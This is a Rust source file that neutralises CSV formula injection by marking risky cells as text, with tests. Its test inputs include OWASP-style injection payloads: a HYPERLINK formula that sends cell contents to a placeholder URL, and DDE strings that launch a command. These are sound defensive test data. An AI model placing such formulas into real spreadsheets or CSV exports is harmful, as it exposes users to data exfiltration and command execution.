//! Cells that a spreadsheet would take for a formula, and the apostrophe by which it takes them for
//! a text. Which files people open in one is not decided here.

use std::borrow::Cow;

use super::missing::is_all_signs;
use super::spelled::spelled;
use super::value::{Value, classify};

/// What a spreadsheet takes for the mark of a text, and does not show.
const MARK: u8 = b'\'';

/// Returns a cell as it is safe in a CSV file that a person opens in a spreadsheet: a text that
/// would be run as a formula has an apostrophe before it. Numbers stay numbers.
///
/// Excel, LibreOffice and Google Sheets run cells that begin with `=`, `+`, `-`, `@`, also in their
/// full width, and some after a tab or a line break (OWASP, "CSV Injection"). A formula may send
/// what else is in the file to anybody. [`without_text_mark`] gives the text back.
///
/// # Examples
///
/// ```
/// use churn_data::as_text_cell;
/// assert_eq!(&*as_text_cell(b"=HYPERLINK(A1)"), b"'=HYPERLINK(A1)");
/// assert_eq!(&*as_text_cell(b"-1.5"), b"-1.5");
/// ```
#[must_use]
pub fn as_text_cell(cell: &[u8]) -> Cow<'_, [u8]> {
    if is_formula(cell) {
        return Cow::Owned([&[MARK], cell].concat());
    }
    Cow::Borrowed(cell)
}

/// Returns the text that a cell with the mark of a text stands for; any other cell as it is.
///
/// An apostrophe is taken away only where [`as_text_cell`] would put it: `'90s` is a text of its own.
#[inline]
#[must_use]
pub fn without_text_mark(cell: &[u8]) -> &[u8] {
    if cell.first() != Some(&MARK) {
        return cell;
    }
    // All of them, so that to do it again changes nothing.
    let marks = cell.iter().take_while(|byte| **byte == MARK).count();
    let text = &cell[marks..];
    if is_formula(text) { text } else { cell }
}

fn is_formula(cell: &[u8]) -> bool {
    let looks_like_one = match cell {
        [b'\t' | b'\r' | b'\n', ..] => true,
        _ => matches!(
            cell.trim_ascii_start(),
            [b'=' | b'+' | b'-' | b'@', ..]
            // Full-width ＝, ＋, －, ＠ in UTF-8.
            | [0xef, 0xbc, 0x9d | 0x8b | 0x8d | 0xa0, ..]
        ),
    };
    // Marks of missing values such as `-` and `--` say nothing that could be run.
    looks_like_one
        && !is_all_signs(cell)
        && matches!(classify(cell), Value::Text)
        && spelled(cell).is_none_or(|number| !number.is_known())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::canonical;

    #[test]
    fn what_a_spreadsheet_would_run_is_marked_as_text() {
        // The openings are those of OWASP's page "CSV Injection".
        for formula in [
            "=1+1",
            "=HYPERLINK(\"http://x/?\"&A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,2)",
            "@handle",
            "+49 (170) 12-34-56 ext",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\tx",
            "＝1+1",
            "＠x",
            "-x",
        ] {
            let cell = as_text_cell(formula.as_bytes());
            assert_eq!(*cell, *format!("'{formula}").as_bytes(), "{formula:?}");
            assert_eq!(without_text_mark(&cell), formula.as_bytes());
        }
    }

    #[test]
    fn numbers_marks_and_ordinary_texts_stay_as_they_are() {
        for cell in [
            "-1.5",
            "+3",
            "-1e-3",
            "-.5",
            "-inf",
            "-1,5",
            "-1.234,56",
            "-5 %",
            "-$3",
            "-",
            "--",
            "---",
            "+",
            "=",
            "",
            "plain",
            "a=b",
            "a@b.c",
            "'90s",
            "'tis",
            "'",
            "''",
            "1-2",
            "2026-01-01",
            "-9007199254740993",
        ] {
            assert!(
                matches!(as_text_cell(cell.as_bytes()), Cow::Borrowed(_)),
                "{cell:?}"
            );
            assert_eq!(
                without_text_mark(cell.as_bytes()),
                cell.as_bytes(),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn a_marked_number_is_not_what_we_write_and_stays() {
        assert_eq!(without_text_mark(b"'-5"), b"'-5");
        assert_eq!(without_text_mark(b"''=x"), b"=x");
    }

    proptest::proptest! {
        #[test]
        fn any_value_is_counted_as_the_same_one_when_it_is_read_back(text in "[-=+@'\t a1.,\u{ff1d}%]{0,8}") {
            let cell = as_text_cell(text.as_bytes());
            proptest::prop_assert_eq!(&*canonical(&cell), &*canonical(text.as_bytes()));
            let marked_again = as_text_cell(&cell).into_owned();
            proptest::prop_assert_eq!(&marked_again, &cell.into_owned());
            let bare = without_text_mark(text.as_bytes());
            proptest::prop_assert_eq!(without_text_mark(bare), bare);
            proptest::prop_assert!(!is_formula(&marked_again));
        }
    }
}
